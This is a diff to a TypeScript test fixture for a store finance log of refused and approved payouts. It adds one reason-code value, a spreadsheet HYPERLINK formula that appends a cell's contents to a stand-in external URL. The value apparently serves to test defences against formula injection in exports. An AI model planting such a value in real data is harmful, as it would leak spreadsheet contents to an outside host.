@@ -22,6 +22,9 @@ export const fixtureDays = {
 /** 22:30 in Chicago (CDT, UTC−5) on the evening day. */
 export const eveningGestureAt = '2025-03-13T03:30:00.000Z';
 
+/** A reason code a spreadsheet would run as a formula, on a refused gesture (nothing posted, the line kept all the same). */
+export const formulaReasonCode = '=HYPERLINK("http://x.example/?"&A1,"click")';
+
 export const storeA = 'chicago-loop';
 export const storeB = 'la-santa-monica';
 
@@ -33,6 +36,8 @@ export interface FinanceFixture {
   /** Just before the escalation on the decisions day was approved. */
   beforeApproval: string;
   escalatedGestureId: string;
+  /** Refused on the decisions day, recorded last, with `formulaReasonCode`. */
+  formulaGestureId: string;
   approverId: string;
   close(): Promise<void>;
 }
@@ -128,9 +133,10 @@ export async function financeFixture(): Promise<FinanceFixture> {
   await feedback('f-4', 'c-r1', reversed.gestureId, 'complaint', null, '18:03');
 
   await gesture('dee', 'c-evening', 1_300, eveningGestureAt);
+  const formula = await gesture('eli', 'c-x2', 9_999_000, at(d, '15:00'), { reasonCode: formulaReasonCode, recordedAt: '2025-03-14T10:00:00.000Z' });
 
   const events = await readWholeLog(store);
-  return { store, events, lateUploadRecordedAt, beforeApproval, escalatedGestureId: escalated.gestureId, approverId: 'eli-sup', close: () => store.close() };
+  return { store, events, lateUploadRecordedAt, beforeApproval, escalatedGestureId: escalated.gestureId, formulaGestureId: formula.gestureId, approverId: 'eli-sup', close: () => store.close() };
 }
 
 function ctx(subject: string, roles: CallerRole[], storeId: string | null): RequestContext {
